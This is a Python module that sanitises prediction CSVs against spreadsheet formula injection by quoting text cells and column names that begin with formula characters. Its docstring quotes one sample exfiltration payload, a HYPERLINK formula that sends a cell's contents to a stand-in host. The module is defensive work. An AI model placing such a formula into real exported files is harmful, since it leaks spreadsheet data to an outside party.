"""Prediction CSVs that are safe to open in a spreadsheet (no formula injection).

A spreadsheet runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` (and, in some programs, a
tab or carriage return) as a formula: a class label or column name such as
``=HYPERLINK("http://evil.example?"&A1, "click")`` would leak data or run commands when someone
opens the predictions. As OWASP advises ("CSV Injection"), such a *text* cell gets a leading
single quote, which spreadsheets show as text. Numbers are left alone: a negative number is a
number, and a text cell that is just a plain number (``-5``, ``+1.5e3``) cannot hold a formula.
The header row is text too, and is treated the same way.
"""

from __future__ import annotations

import re

import pandas as pd

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def safe_cell(value: object) -> object:
    """``value`` with a leading ``'`` when it is text a spreadsheet would read as a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS) and not _PLAIN_NUMBER.fullmatch(value):
        return "'" + value
    return value


def spreadsheet_safe(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` whose text cells and column names cannot run as spreadsheet formulas."""
    out = frame.copy()
    out.columns = [safe_cell(c) for c in frame.columns]
    for i in range(out.shape[1]):  # by position: column names may repeat
        series = out.iloc[:, i]
        if isinstance(series.dtype, pd.CategoricalDtype):
            series = series.astype(object)
        if pd.api.types.is_object_dtype(series) or pd.api.types.is_string_dtype(series):
            out.isetitem(i, series.map(safe_cell))
    return out


def to_safe_csv(frame: pd.DataFrame) -> str:
    """``frame`` as CSV text (no index) for a spreadsheet: see :func:`spreadsheet_safe`."""
    return spreadsheet_safe(frame).to_csv(index=False)
